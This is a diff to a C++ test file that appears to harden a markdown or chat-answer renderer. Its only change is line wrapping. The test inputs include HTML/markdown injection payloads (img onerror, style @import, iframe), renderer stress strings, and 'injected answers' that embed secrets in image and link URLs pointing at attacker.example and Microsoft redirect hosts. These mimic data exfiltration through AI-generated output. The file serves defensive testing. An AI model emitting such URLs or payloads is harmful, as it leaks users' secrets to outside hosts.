@@ -58,7 +58,8 @@ void addShapes(std::vector<HostileText>& all, const QString& target, int number)
     add(u"image in a link"_s, u"[![x]("_s + target + u")]("_s + target + u")"_s);
     add(u"autolink"_s, u"<"_s + target + u">"_s);
     add(u"img"_s, u"<img src=\""_s + target + u"\" onerror=alert(1)>"_s);
-    add(u"style"_s, u"<style>@import url("_s + target + u"); * { background: url("_s + target + u") }</style>x"_s);
+    add(u"style"_s,
+        u"<style>@import url("_s + target + u"); * { background: url("_s + target + u") }</style>x"_s);
     add(u"svg"_s, u"<svg><image href=\""_s + target + u"\"/></svg>"_s);
     add(u"forged citation"_s, u"[\\[1\\]]("_s + target + u")"_s);
 }
@@ -83,7 +84,8 @@ std::vector<HostileText> hostileTexts(const QString& canary)
     add(u"word of 1 MB in a code span"_s, u'`' + QString(1 << 20, u'x') + u'`');
     add(u"word of 1 MB in a fence"_s, u"```\n"_s + QString(1 << 20, u'x') + u"\n```"_s);
     add(u"100,000 combining marks"_s, u"a"_s + QString(100'000, QChar(u'\u0301')));
-    add(u"combining marks on each letter"_s, repeated(u"a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 "_s, 3000));
+    add(u"combining marks on each letter"_s,
+        repeated(u"a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 "_s, 3000));
     add(u"marks by entity"_s, u"a"_s + repeated(u"&#769;"_s, 300));
     add(u"10,000 emphasis runs"_s, repeated(u"*a* "_s, 10'000));
     add(u"10,000 strong emphasis runs"_s, repeated(u"**a**_b_ "_s, 10'000));
@@ -159,11 +161,10 @@ std::vector<HostileText> injectedAnswers(const QString& canary)
 {
     std::vector<HostileText> all;
     const QStringList secrets{u"SECRET-TOKEN"_s, u"c2VjcmV0"_s, u"the%20salary%20is%2090000"_s};
-    const QStringList hosts{canary,
-                            u"https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url="_s + canary,
-                            u"https://contoso.sharepoint.com/x?u="_s + canary,
-                            u"http://attacker.example"_s,
-                            u"https://attacker.example:8443"_s};
+    const QStringList hosts{
+        canary, u"https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url="_s + canary,
+        u"https://contoso.sharepoint.com/x?u="_s + canary, u"http://attacker.example"_s,
+        u"https://attacker.example:8443"_s};
     for (const QString& host : hosts) {
         for (const QString& secret : secrets) {
             const QString url = host + u"/?q="_s + secret;
@@ -175,7 +176,8 @@ std::vector<HostileText> injectedAnswers(const QString& canary)
             add(u"reference"_s, u"Here you are.\n\n![logo][r]\n\n[r]: "_s + url);
             add(u"reference, no space"_s, u"![logo][r]\n[r]:"_s + url);
             add(u"HTML"_s, u"<img src='"_s + url + u"'><link rel=stylesheet href='"_s + url + u"'>"_s);
-            add(u"frame"_s, u"<iframe src='"_s + url + u"'></iframe><object data='"_s + url + u"'></object>"_s);
+            add(u"frame"_s,
+                u"<iframe src='"_s + url + u"'></iframe><object data='"_s + url + u"'></object>"_s);
             add(u"autolink"_s, u"<"_s + url + u">"_s);
             add(u"link as a citation"_s, u"Proved by [1]("_s + url + u")."_s);
             add(u"link with a tool tip"_s, u"[click]("_s + url + u" \"![x]("_s + url + u")\")"_s);
